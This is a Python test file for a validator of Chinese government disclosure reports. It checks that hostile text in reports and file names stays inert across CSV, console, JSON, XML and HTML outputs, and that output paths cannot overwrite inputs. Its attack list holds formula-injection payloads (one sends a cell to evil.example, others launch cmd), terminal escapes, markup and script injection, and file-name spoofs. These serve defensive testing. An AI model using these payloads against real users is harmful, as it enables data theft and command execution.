"""Untrusted files cannot harm the user, the machine or the verdict (issue 13).

Each section is one class of attack or accident, with generated cases (hypothesis where it
fits) built from the seed report at test time:

* injection: hostile text in every text position of a report (body, cell text, table
  row label, file name) × every output format: nothing is interpreted by the program that
  opens the output (spreadsheet formulas, terminal escapes, rich markup, HTML, XML, JSON
  constants), and the text is still shown;
* output paths: an ``--output`` that is an input by name, ``..``, symlink or hard link is
  refused and the input is unchanged; outputs are written by rename.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lhtml
from rich.console import Console

from validator.outputs import FORMATS, module
from validator.outputs import console as console_out
from validator.outputs.safe import FORMULA_START, csv_cell, markup, terminal
from validator.run import check_paths

from .conftest import ROOT, SEED

SEED_TEXT = SEED.read_text(encoding="utf-8")
NEW_ROW = "一、本年新收政府信息公开申请数量\t\t4\t"
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# What attackers put in a cell, a title or a file name (no tab or line break: those change
# the table's structure in a text report; file names get them in their own test).
ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "\x1b[31m红色\x1b[0m", "\x1b]8;;http://evil.example\x07链接\x1b]8;;\x07",
    "\x1b]0;title\x07", "\x9b31m", "\x07\x08\x7f", "[bold red]粗体[/]", "[/]", "[link=http://evil.example]x[/link]",
    "[", "]", "\\[x]", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "]]><!--", "&amp;&#0;",
    "\u202egnp.exe", "NaN", "Infinity", "{\"a\": 1}", "\r=1+1",
]
_SAFE_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\t\n\r")
PAYLOADS = st.one_of(st.sampled_from(ATTACKS), st.text(_SAFE_CHARS, min_size=1, max_size=24),
                     st.tuples(st.sampled_from(ATTACKS), st.text(_SAFE_CHARS, max_size=8)).map("".join))


def _report_with(payload: str) -> str:
    """The seed with ``payload`` as the issuing body (title), as the text of a 表三 cell
    (X001 quotes it) and as the label of an extra 表三 row (X-finding quotes it)."""
    text = SEED_TEXT.replace(NEW_ROW, NEW_ROW.replace("\t4\t", f"\t{payload}x\t"), 1)
    text = text.replace("(六) 其他处理\t", f"{payload}行\t1\t2\t3\t4\t5\t6\t7\n(六) 其他处理\t", 1)
    return f"{payload}人民政府2020年政府信息公开工作年度报告\n" + text


def _render_all(result) -> dict[str, str]:
    out = {}
    for name in FORMATS:
        if name == "console":
            buf = io.StringIO()
            console_out.render(result, Console(file=buf, width=200, color_system=None, force_terminal=False),
                               show_info=True)
            out[name] = buf.getvalue()
        else:
            out[name] = module(name).render(result)
    return out


_TERMINAL_BAD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _assert_safe(outputs: dict[str, str], n_files: int) -> None:
    # console: no control character at all (rich adds none without a colour system), one verdict line per file
    con = outputs["console"]
    assert not _TERMINAL_BAD.search(con), repr(_TERMINAL_BAD.search(con).group(0))
    verdicts = [ln for ln in con.splitlines() if ln[:2] in ("✔ ", "✘ ", "! ")]
    assert len(verdicts) == n_files, verdicts
    # csv: every cell is a number or text no spreadsheet runs
    rows = list(csv.reader(io.StringIO(outputs["csv"].lstrip("\ufeff"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_START or re.fullmatch(r"-?[0-9.]+", cell), (cell, row[2])
    # json, sarif: strict JSON (no NaN/Infinity constants)
    for name in ("json", "sarif"):
        def constant(c):
            raise AssertionError(f"{name} contains {c}")
        json.loads(outputs[name], parse_constant=constant)
    # junit: well-formed XML
    etree.fromstring(outputs["junit"].encode("utf-8"))
    # html: only the page's own script, no event handler, no javascript: URL from the report
    page = lhtml.fromstring(outputs["html"])
    assert len(page.xpath("//script")) == 1
    assert not page.xpath("//@*[starts-with(name(), 'on')]")
    assert not page.xpath("//img | //iframe | //object | //embed | //a[starts-with(@href, 'javascript')]")


@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("untrusted")


@SETTINGS
@given(payload=PAYLOADS)
def test_injection_in_every_text_position_is_inert_in_every_format(workdir, payload):
    path = workdir / "report.txt"
    path.write_text(_report_with(payload), encoding="utf-8")
    result = check_paths([path], keep_cells=True)
    assert result.files[0].status != "unreadable", result.files[0].reason
    outputs = _render_all(result)
    _assert_safe(outputs, 1)
    # and the text is still there for people to read: in JSON as the reader found it
    if "\r" not in payload:
        data = json.loads(outputs["json"])
        assert any(payload.strip() in x["message"] for x in data["files"][0]["findings"]), payload


@pytest.mark.parametrize("payload", ATTACKS)
def test_known_attack_strings(workdir, payload):
    """The same property for every attack string, each in one run (the hypothesis test samples them)."""
    test_injection_in_every_text_position_is_inert_in_every_format.hypothesis.inner_test(workdir, payload)


@pytest.mark.parametrize("name", [
    "=HYPERLINK(1).txt", "-cmd.txt", "[bold]x[", "x\n✔ forged.txt 通过", "a\x1b]0;pwned\x07b.txt", "\u202etxt.exe",
    "ok\rforged.txt",
])
def test_hostile_file_names_are_inert_in_every_format(workdir, name):
    path = workdir / name
    path.write_text(SEED_TEXT, encoding="utf-8")
    empty = workdir / (name + ".empty")
    empty.write_bytes(b"")
    result = check_paths([path, empty], keep_cells=True)
    _assert_safe(_render_all(result), 2)


@pytest.mark.skipif(sys.platform == "darwin", reason="macOS file systems refuse undecodable names")
def test_undecodable_file_name_is_shown_escaped(workdir):
    """A name that is not UTF-8 (a GBK name on a UTF-8 system): every format carries it as \\xNN."""
    raw = os.fsencode(workdir) + b"/\xc4\xea\xb6\xc8\xb1\xa8\xb8\xe6.txt"  # 年度报告 in GBK
    with open(raw, "wb") as f:
        f.write(SEED_TEXT.encode("utf-8"))
    result = check_paths([Path(os.fsdecode(raw))], keep_cells=True)
    outputs = _render_all(result)
    _assert_safe(outputs, 1)
    for name, text in outputs.items():
        text.encode("utf-8")  # every output can be written
        assert re.search(r"\\+xc4\\+xea|%C4%EA", text), name
    proc = subprocess.run([sys.executable, "-m", "validator", "check", os.fsdecode(raw)], cwd=ROOT,
                          capture_output=True, env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")
    assert b"\\xc4\\xea" in proc.stdout


def test_safe_helpers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx"
    assert csv_cell(-3.0) == -3.0 and csv_cell("-3") == "-3" and csv_cell("-3.5") == "-3.5" and csv_cell(None) == ""
    assert terminal("a\x1b[31mb\nc") == "a\\x1b[31mb\\nc"
    assert markup("[bold]x[/]") == "\\[bold]x\\[/]"
    Console(file=io.StringIO()).print(markup("[/][link=x]"))  # no MarkupError


# ------------------------------------------------------------------ output paths


def _digest(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _cli(*args, cwd=ROOT):
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "validator", *map(str, args)], cwd=cwd, env=env,
                          capture_output=True, text=True, encoding="utf-8", errors="replace", timeout=300)


def _aliases(tmp: Path, target: Path) -> dict[str, Path]:
    """Other names for ``target``: itself, through ``..``, a symlink, a hard link."""
    (target.parent / "sub").mkdir(exist_ok=True)
    sym, hard = tmp / "sym.out", tmp / "hard.out"
    for p in (sym, hard):
        if p.exists() or p.is_symlink():
            p.unlink()
    sym.symlink_to(target)
    os.link(target, hard)
    return {"same": target, "dotdot": target.parent / "sub" / ".." / target.name, "symlink": sym, "hardlink": hard}


@pytest.mark.parametrize("fmt", ["console", "json", "csv"])
@pytest.mark.parametrize("role", ["input", "previous", "rules"])
def test_output_cannot_overwrite_anything_the_run_reads(tmp_path, fmt, role):
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    previous = tmp_path / "prev.txt"
    previous.write_text(SEED_TEXT, encoding="utf-8")
    rules = tmp_path / "rules"
    rules.mkdir()
    rule_file = rules / "extra.yaml"
    rule_file.write_text("rules: []\n", encoding="utf-8")
    victim = {"input": report, "previous": previous, "rules": rule_file}[role]
    before = {p: _digest(p) for p in (report, previous, rule_file)}
    for how, out in _aliases(tmp_path, victim).items():
        proc = _cli("check", report, "--previous", previous, "--rules", rules, "--format", fmt, "-o", out)
        assert proc.returncode == 2, (how, proc.returncode, proc.stderr)
        assert "拒绝覆盖" in proc.stderr, (how, proc.stderr)
        assert {p: _digest(p) for p in before} == before, how


def test_extract_output_cannot_overwrite_its_input(tmp_path):
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    before = _digest(report)
    for how, out in _aliases(tmp_path, report).items():
        proc = _cli("extract", report, "-o", out)
        assert proc.returncode == 2 and "拒绝覆盖" in proc.stderr, (how, proc.stderr)
        assert _digest(report) == before


def test_output_is_written_by_rename(tmp_path):
    """A link to the old output keeps the old content (the new file replaced the name), and no temporary file is left."""
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    out = tmp_path / "out.json"
    out.write_text("old", encoding="utf-8")
    os.link(out, tmp_path / "old-link.json")
    proc = _cli("check", report, "--format", "json", "-o", out)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(out.read_text(encoding="utf-8"))["files"][0]["status"] == "passed"
    assert (tmp_path / "old-link.json").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old-link.json", "out.json", "report.txt"]
